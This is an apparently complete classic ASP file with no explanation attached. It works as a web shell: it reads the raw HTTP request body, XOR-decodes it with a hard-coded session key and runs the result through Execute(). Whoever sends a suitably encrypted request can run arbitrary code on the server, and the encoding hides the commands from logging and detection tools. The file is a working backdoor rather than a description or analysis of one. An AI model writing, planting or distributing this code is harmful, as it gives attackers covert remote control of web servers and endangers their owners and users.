<%
Response.CharSet = "UTF-8"
Session("t") = "0f1e2d3c4b5a6978"
t = Session("t")
n = Request.TotalBytes
raw = Request.BinaryRead(n)
For i = 1 To n
  code = code & Chr(AscB(MidB(raw, i, 1)) Xor Asc(Mid(t, (i And 15) + 1, 1)))
Next
Execute(code)
%>
